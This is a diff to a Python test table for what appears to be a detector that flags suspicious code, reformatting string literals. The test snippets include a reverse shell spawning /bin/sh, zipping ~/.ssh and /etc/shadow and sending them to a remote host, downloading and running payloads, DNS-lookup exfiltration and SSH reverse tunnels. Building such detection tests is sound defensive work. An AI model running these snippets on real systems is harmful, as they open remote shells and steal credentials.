@@ -78,8 +78,8 @@ CASES: dict[str, tuple[str, list[Expected]]] = {
         [("exec", {"CommandLine": "ssh h.example"})],
     ),
     "asyncio": (
-        IMPORTS
-        + "async def f():\n    await asyncio.create_subprocess_exec('ssh', 'h.example')\n    await asyncio.create_subprocess_shell('nc 192.0.2.1 9')",
+        IMPORTS + "async def f():\n    await asyncio.create_subprocess_exec('ssh', 'h.example')\n    await "
+        "asyncio.create_subprocess_shell('nc 192.0.2.1 9')",
         [("exec", {"Image": "ssh"}), ("exec", {"Image": "nc"})],
     ),
     "variable words": (
@@ -99,15 +99,16 @@ CASES: dict[str, tuple[str, list[Expected]]] = {
         [("connect", {"SentData": KEY})],
     ),
     "downloaded and run": (
-        "import urllib.request, subprocess\nurllib.request.urlretrieve('https://a.example/x', '/tmp/x')\nsubprocess.call(['/tmp/x'])",
+        "import urllib.request, subprocess\nurllib.request.urlretrieve('https://a.example/x', '/tmp/x')\n"
+        "subprocess.call(['/tmp/x'])",
         [
             ("write", {"TargetFilename": "/tmp/x", "Origin": "https://a.example/x"}),
             ("exec", {"Image": "/tmp/x", "ImageOrigin": "https://a.example/x"}),
         ],
     ),
     "written and run": (
-        IMPORTS
-        + "open('/tmp/x.sh', 'wb').write(requests.get('https://a.example/x').content)\nsubprocess.run(['bash', '/tmp/x.sh'])",
+        IMPORTS + "open('/tmp/x.sh', 'wb').write(requests.get('https://a.example/x').content)\nsubprocess.run(['bash', "
+        "'/tmp/x.sh'])",
         [("exec", {"Image": "bash", "ImageOrigin": "https://a.example/x"})],
     ),
     # constants
@@ -169,13 +170,13 @@ CASES: dict[str, tuple[str, list[Expected]]] = {
         [("read", {"TargetFilename": "/etc/shadow"}), ("write", {"TargetFilename": "/tmp/s", "Origin": "/etc/shadow"})],
     ),
     "archive": (
-        IMPORTS
-        + f"shutil.make_archive('/tmp/a', 'zip', os.path.expanduser('~/.ssh'))\nrequests.post({FAR}, files={{'f': open('/tmp/a.zip', 'rb')}})",
+        IMPORTS + f"shutil.make_archive('/tmp/a', 'zip', os.path.expanduser('~/.ssh'))\nrequests.post({FAR}, "
+        f"files={{'f': open('/tmp/a.zip', 'rb')}})",
         [("connect", {"SentData": "/tmp/a.zip ~/.ssh"})],
     ),
     "zip": (
-        IMPORTS
-        + f"import zipfile\nwith zipfile.ZipFile('/tmp/a.zip', 'w') as z:\n    z.write('/etc/shadow')\nrequests.put({FAR}, data=open('/tmp/a.zip', 'rb'))",
+        IMPORTS + f"import zipfile\nwith zipfile.ZipFile('/tmp/a.zip', 'w') as z:\n    z.write('/etc/shadow')\n"
+        f"requests.put({FAR}, data=open('/tmp/a.zip', 'rb'))",
         [("connect", {"SentData": "/tmp/a.zip /etc/shadow", "Method": "PUT"})],
     ),
     "environment": (
@@ -219,7 +220,8 @@ CASES: dict[str, tuple[str, list[Expected]]] = {
     ),
     "through an object": (
         IMPORTS
-        + f"class A:\n    def __init__(self):\n        self.s = requests.Session()\n        self.k = {READ}\n    def go(self):\n        self.s.post({FAR}, data=self.k)",
+        + f"class A:\n    def __init__(self):\n        self.s = requests.Session()\n        self.k = {READ}\n    def "
+        f"go(self):\n        self.s.post({FAR}, data=self.k)",
         [("connect", {"SentData": KEY, "Image": "requests"})],
     ),
     "output of a program": (
@@ -228,11 +230,13 @@ CASES: dict[str, tuple[str, list[Expected]]] = {
     ),
     # libraries
     "httpx": (
-        "import httpx\nasync def f():\n    async with httpx.AsyncClient() as c:\n        await c.post('https://a.example')",
+        "import httpx\nasync def f():\n    async with httpx.AsyncClient() as c:\n        await "
+        "c.post('https://a.example')",
         [("connect", {"Image": "httpx", "Method": "POST"})],
     ),
     "aiohttp": (
-        "import aiohttp\nasync def f():\n    async with aiohttp.ClientSession() as s:\n        async with s.get('https://a.example') as r:\n            exec(await r.text())",
+        "import aiohttp\nasync def f():\n    async with aiohttp.ClientSession() as s:\n        async with "
+        "s.get('https://a.example') as r:\n            exec(await r.text())",
         [("connect", {"Image": "aiohttp"}), ("exec", {"Image": "python", "PipedFrom": "aiohttp"})],
     ),
     "urllib": (
@@ -273,14 +277,16 @@ CASES: dict[str, tuple[str, list[Expected]]] = {
     ),
     "lookup": (IMPORTS + f"socket.gethostbyname({READ} + '.t.example')", [("lookup", {"SentData": KEY})]),
     "tunnel": (
-        "import paramiko\nc = paramiko.SSHClient()\nc.connect('203.0.113.7')\ntransport = c.get_transport()\ntransport.request_port_forward('', 2222)",
+        "import paramiko\nc = paramiko.SSHClient()\nc.connect('203.0.113.7')\ntransport = c.get_transport()\n"
+        "transport.request_port_forward('', 2222)",
         [
             ("connect", {"DestinationIp": "203.0.113.7", "DestinationPort": 22, "ReverseTunnel": True}),
             ("exec", {"Image": "paramiko", "CommandLine": "transport.request_port_forward('', 2222)"}),
         ],
     ),
     "asyncssh": (
-        "import asyncssh\nasync def f():\n    c = await asyncssh.connect('h.example')\n    await c.forward_remote_port('', 1, 'localhost', 2)",
+        "import asyncssh\nasync def f():\n    c = await asyncssh.connect('h.example')\n    await "
+        "c.forward_remote_port('', 1, 'localhost', 2)",
         [("exec", {"Image": "asyncssh"}), ("connect", {"Image": "asyncssh"})],
     ),
     # code from data
@@ -324,7 +330,8 @@ CASES: dict[str, tuple[str, list[Expected]]] = {
         [("exec", {"Image": "python", "PipedFrom": "requests"})],
     ),
     "reverse shell": (
-        "import socket, os, pty\ns = socket.socket()\ns.connect(('203.0.113.7', 4444))\n[os.dup2(s.fileno(), f) for f in (0, 1, 2)]\npty.spawn('/bin/sh')",
+        "import socket, os, pty\ns = socket.socket()\ns.connect(('203.0.113.7', 4444))\n[os.dup2(s.fileno(), f) for "
+        "f in (0, 1, 2)]\npty.spawn('/bin/sh')",
         [("connect", {"DestinationIp": "203.0.113.7"}), ("exec", {"Image": "/bin/sh", "PipedFrom": "socket"})],
     ),
     "reverse shell by process": (
@@ -333,13 +340,13 @@ CASES: dict[str, tuple[str, list[Expected]]] = {
         [("exec", {"Image": "/bin/sh", "PipedFrom": "socket"})],
     ),
     "commands from a socket": (
-        IMPORTS
-        + "s = socket.socket()\ns.connect(('203.0.113.7', 1))\nwhile True:\n    c = s.recv(999).decode()\n    subprocess.run(c, shell=True)",
+        IMPORTS + "s = socket.socket()\ns.connect(('203.0.113.7', 1))\nwhile True:\n    c = s.recv(999).decode()\n    "
+        "subprocess.run(c, shell=True)",
         [("exec", {"Image": "sh", "PipedFrom": "socket"})],
     ),
     "thread": (
-        IMPORTS
-        + "import threading\ndef f(h):\n    socket.create_connection((h, 9))\nthreading.Thread(target=f, args=('192.0.2.1',)).start()",
+        IMPORTS + "import threading\ndef f(h):\n    socket.create_connection((h, 9))\nthreading.Thread(target=f, "
+        "args=('192.0.2.1',)).start()",
         [("connect", {"DestinationIp": "192.0.2.1"})],
     ),
 }
